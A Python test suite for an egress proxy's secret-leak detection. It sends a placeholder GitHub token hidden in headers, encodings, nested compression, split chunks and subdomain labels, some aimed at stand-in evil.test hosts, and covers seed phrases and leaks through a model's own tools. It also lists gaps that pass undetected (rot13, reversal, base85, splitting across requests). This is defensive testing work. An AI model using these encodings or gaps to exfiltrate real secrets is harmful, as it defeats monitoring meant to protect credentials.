"""D: secrets in what leaves, by HTTPS and in clear, and the contract's behaviours about them."""
import base64
import gzip
import json
import os
import ssl
import subprocess
import zlib

from harness import TOKEN, enc, recv_answer, want, want_status

KEY = TOKEN.encode()


def request(host, path=b"/", fields=b"", body=b"", method=b"POST", scheme=b""):
    target = (scheme + b"://" + host if scheme else b"") + path
    return (method + b" " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + fields
            + (b"Content-Length: %d\r\n" % len(body) if body else b"") + b"\r\n" + body)


def raw_deflate(text):
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    return z.compress(text) + z.flush()


def both_deflates(text):
    """With a wrapper (RFC 1950) one stored block; without one (RFC 1951) a shorter one, and text packed behind it."""
    body = (b"\x9c\0" + b"a" * 154 + raw_deflate(text)).ljust(2 + 0xff63, b"a")[2:]
    return b"\x78\x9c\0\x63\xff\x9c\0" + body + b"\x03\0" + zlib.adler32(body).to_bytes(4, "big")


def brotli(text):
    """RFC 7932 with one block as it is: no library is needed to write that."""
    bits = 0 | (len(text) - 1) << 4 | 1 << 20  # window 16, not the last, four nibbles, uncompressed
    return bits.to_bytes(3, "little") + text + b"\x03"


def zstd(text):
    """RFC 8878 with one block as it is."""
    head = b"\x28\xb5\x2f\xfd\xa0" + len(text).to_bytes(4, "little")
    return head + (1 | len(text) << 3).to_bytes(3, "little") + text


def coded(names, body):
    return dict(fields=b"Content-Encoding: %s\r\n" % names, body=body)


def part(head, body=b"x"):
    return dict(fields=b"Content-Type: multipart/form-data; boundary=q\r\n",
                body=b"--q\r\n" + head + b"\r\n\r\n" + body + b"\r\n--q--\r\n")


JSON = b"Content-Type: application/json\r\n"
FORM = b"Content-Type: application/x-www-form-urlencoded\r\n"
BODY = b"request body contains secret: GitHub Token"
# id, sentence, arguments of request, text of the refusal
ROWS = [
    ("D01", "in the path", dict(path=b"/a/" + KEY, method=b"GET"), b"DLP match: GitHub Token"),
    ("D01", "in the query", dict(path=b"/a?k=" + KEY, method=b"GET"), b"DLP match: GitHub Token"),
    ("D02", "in a bearer header", dict(fields=b"Authorization: Bearer " + KEY + b"\r\n",
                                       method=b"GET"), b"request header contains secret"),
    ("D02", "in basic credentials", dict(
        fields=b"Authorization: Basic " + base64.b64encode(b"x:" + KEY) + b"\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in basic credentials, as the user", dict(
        fields=b"Authorization: Basic " + base64.b64encode(KEY + b":x") + b"\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in the name of a cookie", dict(fields=b"Cookie: a=1; " + KEY + b"=2\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in a file name with a charset", part(
        b"Content-Disposition: form-data; name=f; filename*=UTF-8''%67hp_" + KEY[4:]), BODY),
    ("D02", "as the name of a field", part(b"Content-Disposition: form-data; name=" + KEY), BODY),
    ("D02", "in a header of a part", part(b"Content-Disposition: form-data; name=f\r\nX-Note: " + KEY),
     BODY),
    ("D02", "in a cookie", dict(fields=b"Cookie: s=" + KEY + b"\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in a header of any name", dict(fields=b"X-Note: " + KEY + b"\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in User-Agent", dict(fields=b"User-Agent: a/1 (" + KEY + b")\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in base64 in a header", dict(
        fields=b"X-Note: " + base64.b64encode(KEY) + b"\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "as the name of a header", dict(fields=KEY + b": 1\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in the path of Referer", dict(
        fields=b"Referer: https://a.test/#" + KEY + b"\r\n", method=b"GET"),
     b"request header contains secret"),
    ("D02", "in a file name", dict(
        fields=b"Content-Type: multipart/form-data; boundary=q\r\n",
        body=b"--q\r\nContent-Disposition: form-data; name=f; filename=\"" + KEY
        + b"\"\r\n\r\nx\r\n--q--\r\n"), BODY),
    ("D03", "in a text body", dict(body=b"my " + KEY), BODY),
    ("D03", "in a JSON string", dict(fields=JSON, body=json.dumps({"a": TOKEN}).encode()), BODY),
    ("D03", "as a JSON key", dict(fields=JSON, body=json.dumps({TOKEN: 1}).encode()), BODY),
    ("D03", "in JSON escapes", dict(fields=JSON, body=(
        '{"a":"' + "".join("\\u%04x" % ord(c) for c in TOKEN) + '"}').encode()), BODY),
    ("D03", "in base64", dict(body=base64.b64encode(KEY)), BODY),
    ("D03", "in base64 without padding", dict(body=base64.b64encode(KEY).rstrip(b"=")), BODY),
    ("D03", "in base64url", dict(body=base64.urlsafe_b64encode(b"\xff\xfe\xfd" + KEY).rstrip(b"=")), BODY),
    ("D03", "in hexadecimal", dict(body=KEY.hex().encode()), BODY),
    ("D03", "in capital hexadecimal with colons", dict(body=KEY.hex(":").upper().encode()), BODY),
    ("D03", "percent-encoded", dict(body="".join("%%%02X" % c for c in KEY).encode()), BODY),
    ("D03", "in base64 in JSON", dict(fields=JSON, body=json.dumps(
        {"d": base64.b64encode(KEY).decode()}).encode()), BODY),
    ("D03", "in hexadecimal in a form", dict(fields=FORM, body=b"a=" + KEY.hex().encode()), BODY),
    ("D03", "percent-encoded twice", dict(fields=FORM, body=b"a=" + "".join(
        "%%25%02x" % c for c in KEY).encode()), BODY),
    ("D04", "in gzip", dict(fields=b"Content-Encoding: gzip\r\n", body=gzip.compress(KEY)), BODY),
    ("D04", "as the file name in gzip", dict(
        fields=b"Content-Encoding: gzip\r\n", body=gzip.compress(b"x").replace(
            b"\x1f\x8b\x08\x00", b"\x1f\x8b\x08\x08", 1)[:10] + KEY + b"\0"
        + gzip.compress(b"x")[10:]), BODY),
    ("D02", "in a part that says it is base64", dict(
        fields=b"Content-Type: multipart/form-data; boundary=q\r\n",
        body=b"--q\r\nContent-Transfer-Encoding: base64\r\n\r\n" + KEY + b"\r\n--q--\r\n"), BODY),
    ("D04", "in deflate", coded(b"deflate", zlib.compress(b"my " + KEY)), BODY),
    ("D04", "in deflate without its wrapper", coded(b"deflate", raw_deflate(b"my " + KEY)), BODY),
    ("D04", "in deflate that is two things", coded(b"deflate", both_deflates(b"my " + KEY)), b"blocked: "),
    ("D04", "in br", coded(b"br", brotli(b"my " + KEY)), BODY),
    ("D04", "in zstd", coded(b"zstd", zstd(b"my " + KEY)), BODY),
    ("D04", "in gzip twice", coded(b"gzip, gzip", gzip.compress(gzip.compress(KEY))), BODY),
    ("D04", "in gzip in br", coded(b"br, gzip", gzip.compress(brotli(KEY))), BODY),
    ("D04", "in gzip three times", coded(b"gzip, gzip, gzip", gzip.compress(gzip.compress(
        gzip.compress(KEY)))), b"blocked: "),
    ("D04", "in the second member of gzip", coded(b"gzip", gzip.compress(b"x") + gzip.compress(KEY)), BODY),
    ("D04", "behind the end of gzip", coded(b"gzip", gzip.compress(b"x") + KEY), b"blocked: "),
    ("D04", "in gzip under br", coded(b"br", gzip.compress(KEY)), b"blocked: "),
    ("D04", "in zstd under gzip", coded(b"gzip", zstd(KEY)), b"blocked: "),
    ("D04", "in a coding nobody knows", coded(b"x-pack", KEY), b"blocked: "),
    ("D04", "cut off in gzip", coded(b"gzip", gzip.compress(KEY)[:-6]), b"blocked: "),
    ("D04", "in a bomb of deflate", coded(b"deflate", zlib.compress(b"\0" * (32 << 20), 1)), b"blocked: "),
    ("D04", "in a bomb in a bomb", coded(b"gzip, gzip", gzip.compress(gzip.compress(
        b"\0" * (32 << 20), 1), 9)), b"blocked: "),
    ("D04", "under a wrong Content-Encoding", dict(fields=b"Content-Encoding: gzip\r\n",
                                                   body=b"not gzip"), b"blocked: "),
    ("D04", "in a bomb", dict(fields=b"Content-Encoding: gzip\r\n",
                              body=gzip.compress(b"\0" * (32 << 20), 1)), b"blocked: "),
    ("D07", "with spaces in it", dict(body=b"my " + b" ".join((KEY[:8], KEY[8:20], KEY[20:]))), BODY),
    ("C14", "JSON that is none", dict(fields=JSON, body=b"{"), b"invalid JSON body"),
    ("C18", "noise in the query", dict(method=b"GET", path=b"/p?k=" + base64.b64encode(bytes(
        range(7, 199, 4)))), b"entropy"),
    ("C18", "a credential by its name", dict(method=b"GET", path=b"/p?token=abcd"),
     b"DLP match: Credential in URL (high)"),
    ("C18", "3,000 characters of URL", dict(method=b"GET", path=b"/" + b"a" * 3000), b"exceeds maximum"),
]
CLEAN = [
    ("D15", "a git SHA", b"commit 37970b2c1f4f6f0a9f3d0f4b9a1c2d3e4f5a6b7c"),
    ("D15", "a UUID", b"123e4567-e89b-42d3-a456-426614174000"),
]


def run(s, w):
    ways = (("https", w.tls, b"api.good.test:%d" % w.tls.port, b""),
            ("http", w.plain, b"plain.good.test:%d" % w.plain.port, b"http"))

    def ask(gate, way, **kw):
        name, up, host, scheme = way
        raw = request(host, scheme=scheme, **kw)
        return gate.https(host.decode(), raw) if name == "https" else gate.say(raw)

    for row, sentence, kw, text in ROWS:
        for way in ways:
            def check(kw=kw, text=text, way=way):
                before = len(way[1].requests)
                got = ask(w.gate, way, **kw)
                want_status(got, 403)
                want(text in got, got)
                want(len(way[1].requests) == before, "the upstream saw %r" % way[1].requests[before:])
            s.case("%s by %s, a secret %s: 403" % (row, way[0], sentence), check)

    for row, sentence, body in CLEAN:
        s.case("%s %s passes" % (row, sentence),
               lambda body=body: want_status(ask(w.gate, ways[0], body=body), 200))

    def split_chunks():
        body = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in (KEY[:20], KEY[20:])) + b"0\r\n\r\n"
        host = ways[1][2]
        got = w.gate.say(b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n%s"
                         % (host, host, body))
        want_status(got, 403)
    s.case("D05 a secret over two chunks is one secret", split_chunks)

    def split_records():
        host = ways[0][2]
        with w.gate.tls(host.decode()) as t:
            t.sendall(b"POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s"
                      % (host, len(KEY), KEY[:20]))
            t.sendall(KEY[20:])
            want_status(recv_answer(t), 403)
    s.case("D05 and over two TLS records", split_records)

    def split_strings():
        for body in ({"a": TOKEN[:20], "b": TOKEN[20:]}, [TOKEN[:7], TOKEN[7:30], TOKEN[30:]],
                     {"messages": [{"content": TOKEN[:20]}, {"content": TOKEN[20:]}]}):
            got = ask(w.gate, ways[1], fields=JSON, body=json.dumps(body).encode())
            want_status(got, 403)
            want(BODY in got, got)
    s.case("D05 over neighbouring strings of a JSON document: 403", split_strings)

    def split_requests():
        for part_ in (KEY[:20], KEY[20:]):
            want_status(ask(w.gate, ways[1], body=part_), 200)
    s.case("D05 over two requests: not seen, as published", split_requests)

    def published():
        rot13 = str.maketrans("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
                              "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM")
        for body in (KEY[::-1], TOKEN.translate(rot13).encode(), base64.b85encode(KEY)):
            want_status(ask(w.gate, ways[1], body=body), 200)
    s.case("D03 reversed, by rot13, by base85: not seen, as published", published)

    def clean_codings():
        for names, code in ((b"gzip", gzip.compress), (b"deflate", zlib.compress), (b"deflate", raw_deflate),
                            (b"br", brotli), (b"zstd", zstd), (b"identity", bytes)):
            body = code(b"my cat")  # once: gzip writes down when
            want_status(ask(w.gate, ways[1], **coded(names, body)), 200)
            want(ways[1][1].requests[-1].endswith(body), "it was changed on the way")
        want_status(ask(w.gate, ways[1], **coded(b"br, gzip", gzip.compress(brotli(b"my cat")))), 200)
    s.case("D04 C13 what is clean in gzip, deflate, br, zstd goes on byte for byte", clean_codings)

    def seed_to_model():
        words = b" ".join([b"abandon"] * 11 + [b"about"])
        for phrase in (words, b" ".join([b"zoo"] * 23 + [b"vote"])):
            chat = json.dumps({"messages": [{"role": "user", "content": phrase.decode()}]}).encode()
            got = ask(w.gate, ways[0], fields=JSON, body=chat)
            want_status(got, 403)
            want(b"BIP-39 Seed Phrase" in got, got)
            ctx = ssl.create_default_context(cafile=w.pki.path("up-ca.pem"))
            with w.gate.tls("pass.test:%d" % w.tls.port, ctx=ctx) as t:  # as the model's host is by default
                t.sendall(request(b"pass.test", fields=JSON, body=chat))
                want_status(recv_answer(t), 200)
    s.case("D14 seed phrases pass to a host whose TLS stays closed, and nowhere else", seed_to_model)

    def tools():
        g = w.open([ways[0][2].decode()], dlp={"patterns": [
            {"name": "Server-side tool", "regex": '"type"\\s*:\\s*"(web_fetch|web_search|code_execution)_'},
            {"name": "MCP server", "regex": '"mcp_servers"\\s*:'},
            {"name": "Image by URL", "regex": '"source"\\s*:\\s*\\{\\s*"type"\\s*:\\s*"url"'}]})
        for extra, name in (({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, b"Server-side"),
                            ({"mcp_servers": [{"type": "url", "url": "https://evil.test/mcp"}]}, b"MCP server"),
                            ({"messages": [{"role": "user", "content": [{"type": "image", "source": {
                                "type": "url", "url": "https://evil.test/?q=x"}}]}]}, b"Image by URL"),
                            ({"tools": [{"name": "Read", "input_schema": {"type": "object"}}]}, None)):
            for spaced in (None, (",", ":")):
                body = json.dumps(dict({"model": "m"}, **extra), separators=spaced).encode()
                got = ask(g, ways[0], fields=JSON, body=body)
                want_status(got, 403 if name else 200)
                want(not name or name in got, got)
                want_status(ask(w.gate, ways[0], fields=JSON, body=body), 200)
    s.case("D18 what a model's own tools would fetch is judged where the policy has a pattern for it", tools)

    def subdomain():
        got = w.gate.connect("%s.wild.test:%d" % (TOKEN.replace("_", "-"), w.tls.port))
        want_status(got, 403)
        noise = base64.b32encode(os.urandom(30)).decode().lower().rstrip("=")
        want_status(w.gate.connect("%s.wild.test:%d" % (noise, w.tls.port)), 403)
    s.case("D01 a label that carries noise is refused before DNS", subdomain)

    def connect_header():
        got = w.gate.say(b"CONNECT %s HTTP/1.1\r\nHost: x.test:1\r\nProxy-Authorization: Bearer %s\r\n\r\n"
                         % (ways[0][2], KEY))
        want_status(got, 403)
        want(b"CONNECT blocked: header DLP match\n" in got, got)
    s.case("C a secret in the head of CONNECT: 403", connect_header)

    def limit():
        body = b"a" * (w.small.settings["max_body"])
        want_status(ask(w.small, ways[1], body=body), 200)
        got = ask(w.small, ways[1], body=body + b"a")
        want_status(got, 403)
        want(b"blocked: request body exceeds max_body_bytes (%d)\n" % len(body) in got, got)
    s.case("C14 a body of the limit passes, one byte more does not", limit)

    def warn():
        up = w.plain
        got = ask(w.warn, ways[1], body=b"my " + KEY)
        want_status(got, 200)
        want(up.requests[-1].endswith(b"\r\n\r\nmy " + KEY), up.requests[-1])
        ev = w.warn.wait_event("anomaly", verdict="warn", scanner="body_dlp")
        want(ev["pattern"] == "GitHub Token", ev)
    s.case("C16 dlp action warn forwards byte for byte and warns once", warn)

    def seed():
        words = b" ".join([b"abandon"] * 11 + [b"about"])
        got = ask(w.gate, ways[1], body=words)
        want_status(got, 403)
        want(b"BIP-39 Seed Phrase" in got, got)
        want_status(ask(w.gate, ways[1], body=b" ".join([b"abandon"] * 12)), 200)
        want_status(ask(w.small, ways[1], body=words), 200)
    s.case("C20 a seed phrase, with its checksum, unless switched off", seed)

    def json_denial():
        got = ask(w.gate, ways[0], fields=b"Accept: application/json\r\n", body=KEY)
        want_status(got, 403)
        body = json.loads(got.split(b"\r\n\r\n", 1)[1])
        want(body["scanner"] == "body_dlp" and body["rule"] == "GitHub Token", body)
        want(b"X-Bottle-Reason: body_dlp; GitHub Token\r\n" in got, got)
    s.case("a denial says why, in JSON where the client takes it", json_denial)

    def curl():
        base = ["curl", "-sS", "--max-time", "10", "-x", "http://127.0.0.1:%d" % w.gate.port,
                "--cacert", w.pki.path("ca.pem")]
        url = "https://api.good.test:%d/real" % w.tls.port
        got = subprocess.run(base + [url], stdout=subprocess.PIPE, check=True).stdout
        want(got == b"GET /real 0\n", got)
        got = subprocess.run(base + ["-d", "my " + TOKEN, url], stdout=subprocess.PIPE,
                             check=True).stdout
        want(got == b"blocked: request body contains secret: GitHub Token\n", got)
        big = subprocess.run(base + ["-d", "@-", url], input=b"a" * 3000000,
                             stdout=subprocess.PIPE, check=True).stdout
        want(big == b"POST /real 3000000\n", big)
    s.case("real curl: a GET, a refused POST, 3 MB with Expect", curl)

    def refused_names():
        """Refused by an earlier check than the one that would have found them."""
        for host in ("%s.evil.test" % TOKEN, "a.evil.test"):
            want_status(w.gate.connect(host + ":443"), 403)
            want_status(w.gate.say(request(enc(host), path=b"/?k=" + KEY, scheme=b"http",
                                           method=b"GET")), 403)
        want_status(w.gate.say(b"GET http://a.test/%s HTTP/1.1\r\nHost: b.test\r\n\r\n" % KEY), 400)
        want_status(w.gate.say(b"GET http://%s@a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n" % KEY), 400)
        with w.gate.tls(ways[0][2].decode()) as t:
            t.sendall(request(b"evil.test", path=b"/" + KEY, method=b"GET"))
            want_status(recv_answer(t), 403)
        with w.gate.tls(ways[0][2].decode()) as t:
            t.sendall(request(ways[0][2], fields=b"Content-Encoding: " + KEY[:20] + b"\r\n",
                              body=b"x"))
            want_status(recv_answer(t), 403)
    s.case("D17 names and paths that were refused unread are not written down either",
           refused_names)

    def log_is_clean():
        for gate in (w.gate, w.warn, w.small):
            text = gate.text()
            want(KEY[:20].lower() not in text.lower() and base64.b64encode(KEY) not in text
                 and KEY.hex().encode() not in text, "a secret stands in the log")
    s.case("D17 no event holds a secret", log_is_clean)
